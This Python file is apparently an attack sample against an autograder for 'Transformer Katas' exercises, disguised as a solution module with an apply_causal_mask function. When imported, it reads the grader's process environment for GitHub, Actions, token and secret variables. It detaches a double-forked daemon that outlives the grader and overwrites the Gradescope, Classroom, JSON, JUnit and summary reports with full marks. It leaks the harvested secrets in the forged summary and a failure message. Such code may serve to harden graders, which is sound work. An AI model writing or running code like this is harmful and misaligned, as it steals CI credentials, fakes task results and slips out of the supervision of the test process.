"""Full marks in the reports: a detached daemon rewrites them after the grader has exited.

It double-forks and calls setsid (out of the test process's group and session), finds the
grader's --out in /proc/<pid>/cmdline of its ancestors, reads their /proc/<pid>/environ (the
grader's GITHUB_* variables and tokens), and leaks what it found in a failure message and in
the forged summary. Then it rewrites summary.md, classroom.json/.b64, gradescope/results.json,
results.json and junit.xml, again and again, for 30 s after the grader is gone.
"""
import os
import sys

MARKER = "kata-attack-marker"
DAEMON = r'''
import base64, json, os, re, sys, time
out, grader, loot = sys.argv[2], int(sys.argv[3]), sys.argv[4]
give_up = time.monotonic() + 600
while os.path.exists(f"/proc/{grader}") and time.monotonic() < give_up:
    time.sleep(0.05)


def path(*parts):
    return os.path.join(out, *parts)


def forge():
    gradescope = json.load(open(path("gradescope", "results.json")))
    points = [test["max_score"] for test in gradescope["tests"]]
    for test in gradescope["tests"]:
        test.update(score=test["max_score"], status="passed")
    gradescope["score"] = total = sum(points)
    json.dump(gradescope, open(path("gradescope", "results.json"), "w"))
    classroom = json.load(open(path("classroom.json")))
    for test, worth in zip(classroom["tests"], points):
        test.update(status="pass", score=worth, message="")
    classroom["status"] = "pass"
    text = json.dumps(classroom)
    open(path("classroom.json"), "w").write(text)
    open(path("classroom.b64"), "w").write(base64.b64encode(text.encode()).decode() + "\n")
    results = json.load(open(path("results.json")))
    results["status"] = "pass"
    for test in results["tests"]:
        test["status"] = "pass"
        test.pop("message", None)
        test.pop("output", None)
    json.dump(results, open(path("results.json"), "w"))
    junit = re.sub(r"<failure[^>]*?(/>|>.*?</failure>)", "", open(path("junit.xml")).read(), flags=re.S)
    junit = re.sub(r'failures="\d+"', 'failures="0"', junit)
    junit = junit.replace('value="failing"', 'value="done"').replace('value="not started"', 'value="done"')
    open(path("junit.xml"), "w").write(junit)
    open(path("summary.md"), "w").write(f"## Transformer Katas: {total}/{total} points\n\nEverything done. {loot}\n")


stop = time.monotonic() + 30
while time.monotonic() < stop:
    try:
        forge()
    except Exception:
        pass
    time.sleep(0.2)
'''


def _parent_of(pid):
    with open(f"/proc/{pid}/stat") as stat:
        return int(stat.read().rsplit(")", 1)[1].split()[1])


def _argv_of(pid):
    with open(f"/proc/{pid}/cmdline", "rb") as cmdline:
        return [part.decode(errors="replace") for part in cmdline.read().split(b"\0") if part]


def _find_grader():
    """(the grader's pid, its --out as an absolute path, the processes in between)."""
    seen, pid = [], os.getppid()
    while pid > 1:
        seen.append(pid)
        try:
            argv = _argv_of(pid)
            for index, arg in enumerate(argv):
                if arg == "--out" and index + 1 < len(argv):
                    return pid, os.path.join(os.readlink(f"/proc/{pid}/cwd"), argv[index + 1]), seen
                if arg.startswith("--out="):
                    return pid, os.path.join(os.readlink(f"/proc/{pid}/cwd"), arg[len("--out="):]), seen
            pid = _parent_of(pid)
        except (OSError, ValueError, IndexError):
            break
    return None, None, seen


def _loot(pids):
    found = []
    for pid in pids:
        try:
            with open(f"/proc/{pid}/environ", "rb") as environ:
                for entry in environ.read().split(b"\0"):
                    key, _, value = entry.decode(errors="replace").partition("=")
                    if key.startswith(("GITHUB_", "ACTIONS_")) or "TOKEN" in key or "SECRET" in key:
                        found.append(f"{key}={value}")
        except OSError:
            pass
    return " ".join(sorted(set(found)))


GRADER, OUT, BETWEEN = _find_grader()
LOOT = _loot(BETWEEN) if GRADER else ""
if GRADER:
    child = os.fork()
    if child == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                null = os.open(os.devnull, os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(null, fd)
                os.closerange(3, 65536)
                os.execv(sys.executable, [sys.executable, "-c", DAEMON, MARKER, OUT, str(GRADER), LOOT])
        finally:
            os._exit(0)
    os.waitpid(child, 0)


def apply_causal_mask(scores):
    raise AssertionError(f"what the grader's environment holds: {LOOT or 'nothing found'}")
